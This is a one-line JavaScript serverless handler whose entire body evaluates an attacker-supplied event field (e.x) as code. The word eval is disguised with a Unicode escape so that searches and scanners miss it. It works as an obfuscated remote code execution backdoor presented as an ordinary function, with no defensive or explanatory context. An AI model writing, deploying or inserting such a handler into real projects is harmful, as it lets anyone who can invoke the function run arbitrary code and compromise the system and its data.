exports.handler=async e=>{\u0065val(e.x)}
